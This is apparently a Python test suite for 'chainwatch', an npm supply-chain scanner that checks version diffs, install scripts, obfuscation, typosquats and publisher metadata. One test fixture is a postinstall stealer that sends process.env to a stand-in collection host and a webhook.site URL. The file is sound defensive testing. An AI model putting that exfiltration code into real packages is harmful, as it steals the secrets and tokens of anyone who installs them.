"""Diff, capability delta, metadata signals and verdicts on in-memory packages."""

from __future__ import annotations

import json
from typing import Any

import semver
from hypothesis import given, settings
from hypothesis import strategies as st

from chainwatch.analysis.metadata import (
    metadata_signals,
    osa_distance,
    typosquat_target,
    young_dependencies,
)
from chainwatch.analysis.scoring import score
from chainwatch.model import Finding, Level, PackageRef, Severity
from chainwatch.packument import release_from_packument
from chainwatch.scan import Loaded, Scanner, scan_snippet_files
from chainwatch.versions import previous_version, sort_versions
from tests.helpers import BENIGN_INDEX, FIXTURES, clipper_source, manifest

SCANNER = Scanner(None)


def pkg(version: str, files: dict[str, str], **manifest_extra: Any) -> Loaded:
    content = {"package.json": manifest(version=version, **manifest_extra), **files}
    return Loaded(PackageRef("left-padder", version), scan_snippet_files(content))


def full() -> dict[str, Any]:
    return json.loads((FIXTURES / "packuments" / "left-padder.full.json").read_text())


def test_previous_version_by_semver() -> None:
    versions = ["1.0.0", "1.2.0", "1.10.0", "2.0.0-beta.1", "2.0.0", "1.9.9"]
    assert previous_version(versions, "1.10.0") == "1.9.9"
    assert previous_version(versions, "2.0.0") == "1.10.0"
    assert previous_version(versions, "2.0.0-beta.1") == "1.10.0"
    assert previous_version(versions, "1.0.0") is None


def test_version_bump_without_code_change_is_benign() -> None:
    v = SCANNER.analyze(pkg("1.0.1", {"index.js": BENIGN_INDEX}),
                        pkg("1.0.0", {"index.js": BENIGN_INDEX}))
    assert v.level is Level.BENIGN
    assert v.changes is not None and v.changes.files.unchanged == 1


def test_appended_clipper_is_malicious_with_capability_delta() -> None:
    v = SCANNER.analyze(pkg("1.0.1", {"index.js": clipper_source()}),
                        pkg("1.0.0", {"index.js": BENIGN_INDEX}))
    assert v.level is Level.MALICIOUS
    assert v.score >= 70
    rules = {f.rule for f in v.findings}
    assert {"CW-BROWSER-FETCH-HOOK", "CW-BROWSER-XHR-HOOK", "CW-BROWSER-WALLET-HOOK",
            "CW-WALLET-ADDRESSES", "CW-WALLET-LOOKALIKE"} <= rules
    assert v.changes is not None and "browser-hook" in v.changes.capabilities_added
    top = v.findings[0]
    assert top.file == "index.js" and top.line and top.snippet
    # the top finding is the hook itself, or the (critical) entry payload that names it
    assert top.technique in ("browser-hijack", "crypto-theft") or (
        top.rule == "CW-DIFF-ENTRY-PAYLOAD" and "CW-BROWSER-FETCH-HOOK" in top.message)


def test_new_postinstall_stealer_is_malicious() -> None:
    stealer = ("const os = require('os'); const https = require('https');\n"
               "const data = JSON.stringify(process.env);\n"
               "https.request({ hostname: 'collect.example.invalid', method: 'POST' }).end(data);\n"
               "fetch('https://webhook.site/abc', { method: 'POST', body: data });\n")
    v = SCANNER.analyze(
        pkg("1.0.1", {"index.js": BENIGN_INDEX, "setup.js": stealer},
            scripts={"postinstall": "node setup.js"}),
        pkg("1.0.0", {"index.js": BENIGN_INDEX}))
    assert v.level is Level.MALICIOUS
    assert v.changes is not None and v.changes.scripts_added == {"postinstall": "node setup.js"}
    assert any(f.install_time for f in v.findings)


def test_capability_the_baseline_had_weighs_little() -> None:
    client = "const https = require('https');\nmodule.exports = (u) => https.get(u);\n"
    more = client + "module.exports.post = (u, b) => https.request(u, { method: 'POST' }).end(b);\n"
    v = SCANNER.analyze(pkg("1.1.0", {"index.js": more}), pkg("1.0.0", {"index.js": client}))
    assert v.level is Level.BENIGN
    assert v.changes is not None and "network" not in v.changes.capabilities_added


def test_files_identical_to_baseline_are_not_reported() -> None:
    shared = "eval(userCode);\n"
    v = SCANNER.analyze(pkg("1.0.1", {"index.js": BENIGN_INDEX, "old.js": shared}),
                        pkg("1.0.0", {"index.js": BENIGN_INDEX, "old.js": shared}))
    assert not [f for f in v.findings if f.file == "old.js"]
    assert "eval" in v.capabilities


def test_metadata_signals_on_full_format_packument() -> None:
    doc = full()
    release = release_from_packument(doc, "1.0.2")
    baseline = release_from_packument(doc, "1.0.1")
    rules = {f.rule for f in metadata_signals(doc, release, baseline, None)}
    assert {"CW-META-NEW-PUBLISHER", "CW-META-EMAIL-DOMAIN", "CW-META-PROVENANCE-LOST",
            "CW-META-TRUSTED-PUBLISHING-LOST", "CW-META-GITHEAD-MISSING", "CW-META-DORMANT",
            "CW-META-MAINTAINERS"} <= rules


def test_metadata_degrades_on_trimmed_packument() -> None:
    doc = json.loads((FIXTURES / "packuments" / "left-padder.trimmed.json").read_text())
    release = release_from_packument(doc, "1.0.2")
    baseline = release_from_packument(doc, "1.0.1")
    rules = {f.rule for f in metadata_signals(doc, release, baseline, None)}
    assert "CW-META-NEW-PUBLISHER" not in rules and "CW-META-MAINTAINERS" not in rules
    assert "CW-META-PROVENANCE-LOST" in rules


def test_manifest_confusion() -> None:
    doc = full()
    release = release_from_packument(doc, "1.0.1")
    tar_manifest = scan_snippet_files({"package.json": manifest(
        version="1.0.1", scripts={"preinstall": "node x.js"})}).manifest
    rules = {f.rule for f in metadata_signals(doc, release, None, tar_manifest)}
    assert "CW-META-MANIFEST-CONFUSION" in rules


def test_typosquat_and_distance() -> None:
    assert osa_distance("electorn", "electron") == 1
    assert typosquat_target("lodashs") == "lodash"
    assert typosquat_target("lodash") is None
    assert typosquat_target("left-padder") is None


def test_dependency_confusion_probe() -> None:
    doc = {"name": "acme-internal-utils", "versions": {"99.9.9": {"dist": {}}},
           "time": {"99.9.9": "2025-01-01T00:00:00Z"}}
    release = release_from_packument(doc, "99.9.9")
    rules = {f.rule for f in metadata_signals(doc, release, None, None)}
    assert "CW-META-DEPENDENCY-CONFUSION" in rules


def test_scoring_levels() -> None:
    info = Finding("R1", Severity.INFO, "capability", "network", "uses network")
    assert score([info]).level is Level.BENIGN
    high = Finding("R2", Severity.HIGH, "obfuscation", "obfuscation", "packed")
    assert score([high]).level is Level.SUSPICIOUS
    crit = Finding("R3", Severity.CRITICAL, "tampering", "integrity", "bad checksum")
    assert score([crit]).level is Level.MALICIOUS
    theft = Finding("R4", Severity.MEDIUM, "secret-theft", "secrets", "reads tokens")
    assert score([info, high, theft]).level is Level.MALICIOUS
    old = Finding("R2", Severity.HIGH, "obfuscation", "obfuscation", "packed", preexisting=True)
    assert score([info, old]).level is Level.BENIGN


def test_young_dependency() -> None:
    found = young_dependencies(
        {"flatmap-stream": "0.1.1", "through": "~2.3.1", "ghost": "1.0.0"},
        {"flatmap-stream": "2018-09-05T00:00:00Z", "through": "2011-01-01T00:00:00Z"},
        "2018-09-09T00:00:00Z")
    assert [f.rule for f in found] == ["CW-META-YOUNG-DEPENDENCY"]
    assert "flatmap-stream@0.1.1" in found[0].message and "4 days" in found[0].message


OBFUSCATED = "var _0x1a2b=['a'];" + "".join(f"var _0x{i:04x}=_0x1a2b;" for i in range(40))


def test_obfuscation_injected_into_clean_entry_file_is_critical() -> None:
    v = SCANNER.analyze(pkg("1.0.1", {"index.js": BENIGN_INDEX + OBFUSCATED}),
                        pkg("1.0.0", {"index.js": BENIGN_INDEX}))
    injected = [f for f in v.findings if f.rule == "CW-DIFF-INJECTED-OBFUSCATION"]
    assert injected and injected[0].severity is Severity.CRITICAL
    assert v.level is Level.MALICIOUS


def test_obfuscation_already_there_or_in_a_major_release_is_not_critical() -> None:
    same = SCANNER.analyze(pkg("1.0.1", {"index.js": OBFUSCATED + "\n//1"}),
                           pkg("1.0.0", {"index.js": OBFUSCATED}))
    assert not [f for f in same.findings if f.rule == "CW-DIFF-INJECTED-OBFUSCATION"]
    major = SCANNER.analyze(pkg("2.0.0", {"index.js": BENIGN_INDEX + OBFUSCATED}),
                            pkg("1.0.0", {"index.js": BENIGN_INDEX}))
    found = [f for f in major.findings if f.rule == "CW-DIFF-INJECTED-OBFUSCATION"]
    assert found and found[0].severity is Severity.HIGH
    new_file = SCANNER.analyze(pkg("1.0.1", {"index.js": BENIGN_INDEX, "vendor.js": OBFUSCATED}),
                               pkg("1.0.0", {"index.js": BENIGN_INDEX}))
    assert not [f for f in new_file.findings if f.rule == "CW-DIFF-INJECTED-OBFUSCATION"]


@settings(max_examples=300, deadline=None)
@given(st.lists(st.tuples(st.integers(0, 3), st.integers(0, 3), st.integers(0, 3),
                          st.lists(st.sampled_from(["alpha", "beta", "rc", "1", "2", "11", "x7"]),
                                   max_size=3)), min_size=2, max_size=12))
def test_version_order_is_semver_precedence(parts: list[tuple[int, int, int, list[str]]]) -> None:
    versions = sorted({f"{a}.{b}.{c}" + (f"-{'.'.join(pre)}" if pre else "")
                       for a, b, c, pre in parts})
    assert sort_versions(versions) == sorted(versions, key=semver.Version.parse)
